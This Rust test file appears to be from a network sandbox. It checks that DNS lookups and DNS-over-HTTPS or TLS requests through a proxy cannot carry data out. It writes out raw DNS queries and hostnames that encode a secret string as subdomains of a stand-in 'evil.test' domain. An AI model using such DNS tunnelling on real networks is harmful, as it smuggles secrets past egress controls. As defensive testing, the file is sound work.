//! Names as a channel: nothing inside can ask for one, and the proxy asks only for names that were granted.

use crate::internet::{Internet, connect, get, status};
use crate::support::{PATIENCE, each_caller, within};

#[test]
fn no_question_carries_anything_out() {
    const PROGRAM: &str = "import socket, sys\n\
        question = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + bytes([30]) + b's' * 30 + b'\\x04evil\\x04test\\x00\\x00\\x10\\x00\\x01'\n\
        for to in ['127.0.0.1', '127.0.0.53', '45.33.32.10', '10.9.8.7', '8.8.8.8']:\n    \
            for kind in [socket.SOCK_DGRAM, socket.SOCK_STREAM]:\n        \
                s = socket.socket(socket.AF_INET, kind); s.settimeout(20)\n        \
                try: s.connect((to, 53)); s.send(question); s.recv(512); print('answered', to)\n        \
                except OSError as e: print(e.errno)\n\
        for name in ['s' * 60 + '.evil.test', 'allowed.test', 'localhost.evil.test']:\n    \
            try: socket.getaddrinfo(name, 80); print('answered', name)\n    \
            except OSError: print('none')\n";
    each_caller(|caller| {
        let internet = Internet::new(caller, &["allowed.test:80"], "");
        let sandbox = internet.sandbox(&["allowed.test:80"]);
        let ran = internet.exec(&sandbox, &["python3", "-c", PROGRAM]);
        let said = String::from_utf8_lossy(&ran.stdout).into_owned();
        assert!(said.lines().count() == 13 && !said.contains("answered"), "{ran:?}");
        // Through the proxy: names that are not granted, with what is to be carried out in them, and the ports and services
        // of names.
        let secret = "5ecret".repeat(10);
        let hosts = [format!("{secret}.evil.test"), format!("{secret}.allowed.test"), "dns.google".to_owned(), "1.1.1.1".to_owned()];
        let requests: Vec<String> = hosts
            .iter()
            .flat_map(|host| {
                [connect(&format!("{host}:443")), get(host, &format!("/dns-query?dns={secret}")), connect(&format!("{host}:853"))]
            })
            .chain([connect("allowed.test:53"), connect("127.0.0.1:53")])
            .collect();
        for (request, answer) in requests.iter().zip(internet.knock(&sandbox, &requests)) {
            assert!(["400", "403"].contains(&status(&answer)), "{request}: {answer}");
        }
        assert!(internet.asked().is_empty(), "names were asked for: {:?}", internet.asked());
        // The control: the same server of names is asked as soon as a name is granted, and hears all of it from the host.
        assert!(internet.knock(&sandbox, &[get("allowed.test", "/")])[0].contains("this is"));
        assert!(internet.asked().iter().all(|name| name == "allowed.test") && !internet.asked().is_empty(), "{:?}", internet.asked());
        let carried = format!("{secret}.evil.test");
        internet.look_up(&carried);
        // Whoever asks may give up before the question is noted.
        assert!(within(PATIENCE, || internet.asked().contains(&carried)), "{:?}", internet.asked());
    });
}
